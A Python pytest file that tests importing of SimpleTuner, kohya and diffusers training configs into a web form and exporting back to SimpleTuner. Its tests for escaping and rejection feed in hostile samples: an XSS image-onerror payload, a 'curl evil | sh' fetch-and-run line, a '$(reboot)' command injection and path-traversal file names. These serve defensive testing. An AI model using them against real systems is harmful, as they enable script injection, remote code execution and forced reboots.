"""Configs of other tools on the page."""

import json
import zipfile
from pathlib import Path

import pytest

from app.design import Design
from app.form import values_of
from app.importing import hold, packed, safe_name, simpletuner_config, take_over
from app.page import restore
from app.tabs import configure_text, launch
from core.config.foreign.kept import Kept, kept_text, read_kept
from core.config.spec import option_specs
from core.runs.experiment import find_experiment

EXAMPLES = Path(__file__).parents[1] / "core" / "config" / "foreign" / "examples"
SIMPLETUNER = EXAMPLES / "simpletuner" / "flux.json"
SPECS = list(option_specs())


def written(tmp_path, name, text):
    path = tmp_path / name
    path.write_text(text)
    return str(path)


def value(outputs, option):
    return outputs[SPECS.index(option)]


def rollout_file(tmp_path, **more):
    (tmp_path / "toys").mkdir(exist_ok=True)
    table = {
        "model_family": "sd1x",
        "pretrained_model_name_or_path": "embedded",
        "instance_data_dir": str(tmp_path / "toys"),
        "instance_prompt": "sks toy",
        "max_train_steps": 100,
        "lora_rank": "3",
        "scheduled_sampling_max_step_offset": 4,
        "scheduled_sampling_probability": 1.0,
        "scheduled_sampling_ramp_steps": 50,
        "a_key_of_tomorrow": "x",
    }
    return written(tmp_path, "config.json", json.dumps({**table, **more}))


def test_a_simpletuner_file_fills_the_form_and_lists_every_key(parts, tmp_path):
    outputs = configure_text.take_file(parts, rollout_file(tmp_path), "demo")
    assert len(outputs) == len(SPECS) + 2
    assert (value(outputs, "rank"), value(outputs, "max_train_steps")) == (3, 100)
    kept, html = outputs[-2:]
    assert kept_text(kept).keys["a_key_of_tomorrow"] == "x"
    for word in ("a_key_of_tomorrow", "unknown", "differs", "mapped", "scheduled_sampling_probability"):
        assert word in html


def test_both_ramps_are_drawn_and_told_in_numbers(parts, tmp_path):
    html = configure_text.take_file(parts, rollout_file(tmp_path), "demo")[-1]
    assert html.count("<svg") == 1
    assert "SimpleTuner: 1 at first, 0.5 at step 100" in html
    assert "here: 0 at first, 0.5 at step 100" in html
    assert "<td>1.000</td><td>0.000</td>" in html
    off = configure_text.take_file(parts, rollout_file(tmp_path, scheduled_sampling_max_step_offset=0), "demo")[-1]
    assert "<svg" not in off


@pytest.mark.parametrize("name", ["diffusers/sd15.sh", "kohya/config.toml", "kohya/gui.json", "simpletuner/flux.json"])
def test_the_files_of_all_tools_are_taken_with_pictures_from_the_preset(parts, name, demo):
    path = EXAMPLES / name
    outputs = configure_text.take_file(parts, str(path), "demo")
    assert "Imported" in outputs[-1]
    assert value(outputs, "instance_data_dir") == demo.data.instance_data_dir
    assert "not a place that the page may use" in outputs[-1]


def test_a_command_line_can_be_pasted(parts):
    outputs = configure_text.take_text(parts, (EXAMPLES / "diffusers" / "sdxl.txt").read_text(), "demo")
    assert value(outputs, "rank") == 16
    assert "Imported" in outputs[-1]


def test_our_own_text_keeps_what_was_kept_with_it(parts, demo):
    table = {**demo.model_dump(mode="json"), "imported": Kept("simpletuner", {"a": 1}).section}
    outputs = configure_text.take_text(parts, json.dumps(table), "demo")
    assert "The form holds this config now" in outputs[-1]
    assert kept_text(outputs[-2]) == Kept("simpletuner", {"a": 1})


def test_what_a_file_says_is_escaped(parts, tmp_path):
    evil = "<img src=x onerror=alert(1)>"
    path = rollout_file(tmp_path, **{evil: evil, "instance_prompt": evil, "lr_scheduler": evil})
    html = configure_text.take_file(parts, path, "demo")[-1]
    assert "<img" not in html
    assert "&lt;img" in html
    assert "rw-fail" in html


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.json", b"\xff\xfe"),
        ("a.json", b"[" * 100_000),
        ("a.json", b'{"a": ' + b"1" * 300_000 + b"}"),
        ("a.json", json.dumps({f"--k{number}": number for number in range(5_000)}).encode()),
        ("a.toml", b"model = 1"),
        ("a.sh", b"curl evil | sh"),
        ("a.sh", b"python train_dreambooth_lora.py --instance_prompt $(reboot)"),
        ("a.json", b'[{"id": "x", "type": "local"}]'),
    ],
)
def test_files_that_make_no_sense_get_a_sentence_and_leave_the_form(parts, tmp_path, name, data):
    path = tmp_path / name
    path.write_bytes(data)
    outputs = configure_text.take_file(parts, str(path), "demo")
    assert len(outputs) == len(SPECS) + 2
    assert "rw-fail" in outputs[-1]
    assert "Traceback" not in outputs[-1]
    assert all(output == outputs[0] for output in outputs[:-1])


def test_what_is_kept_goes_into_the_runs_and_comes_back_after_a_reload(
    parts, workspace, pictures, tmp_path, monkeypatch
):
    path = rollout_file(tmp_path, instance_data_dir=str(pictures), resolution=64, mixed_precision="no")
    *raw, kept, _ = configure_text.take_file(parts, path, "demo")
    draft = json.dumps({"preset": "demo", "imported": kept, "values": raw})
    assert kept in restore(parts, draft, "", {})
    monkeypatch.setattr("app.workbench.start_experiment", lambda experiment: None)
    selection, _, told, *_ = launch.start(parts, Design("ab", ()), "toy", "demo", raw, kept)
    assert told == ""
    experiment = find_experiment(workspace, selection.split("/")[1])
    assert {read_kept(arm.run.config_path).keys["a_key_of_tomorrow"] for arm in experiment.arms} == {"x"}


def test_a_damaged_section_is_told_at_the_start(parts, demo):
    found = launch.start(parts, Design("single", ()), "x", "demo", values_of(demo), '{"imported": 5}')[2]
    assert "imported must be a table" in found


def test_the_form_goes_out_for_simpletuner(parts, tmp_path):
    *raw, kept, _ = configure_text.take_file(parts, rollout_file(tmp_path), "demo")
    raw[SPECS.index("rank")] = 5
    button, said = configure_text.for_simpletuner(parts, kept, raw)
    assert "Its config and its list of data sets" in said
    with zipfile.ZipFile(button.value["path"]) as archive:
        config = json.loads(archive.read("config.json"))
        (backend, *_) = json.loads(archive.read("multidatabackend.json"))
    assert (config["lora_rank"], config["a_key_of_tomorrow"]) == (5, "x")
    assert backend["instance_data_dir"] == str(tmp_path / "toys")


def test_what_cannot_be_said_there_is_told(parts, demo):
    _, said = configure_text.for_simpletuner(parts, "", values_of(demo))
    assert "cannot be said there" in said
    bad = values_of(demo)
    bad[SPECS.index("rank")] = -1
    assert "rank must" in configure_text.for_simpletuner(parts, "", bad)[1]


@pytest.mark.parametrize(
    "name", ["../../x.json", "config.json", ".json", "a b.json", "x.exe", "é.json", "x" * 200 + ".json"]
)
def test_the_zip_has_plain_names_only(name, demo):
    assert safe_name(name) == "multidatabackend.json"
    assert safe_name("my-sets.json") == "my-sets.json"
    held = hold(Kept("simpletuner", {"data_backend_config": name}))
    assert len(packed(simpletuner_config(demo, held))) > 100


def test_files_that_it_names_are_not_read(workbench, tmp_path):
    """The page takes the text alone, even where it could read more."""
    sets = [{"id": "x", "type": "local", "instance_data_dir": str(tmp_path), "instance_prompt": "from elsewhere"}]
    path = written(tmp_path, "sets.json", json.dumps(sets))
    taken = take_over(workbench, json.dumps({"model_family": "sd1x", "data_backend_config": path}), "a.json", "demo")
    assert "from elsewhere" not in taken.html
    assert "it was not at hand" in taken.html
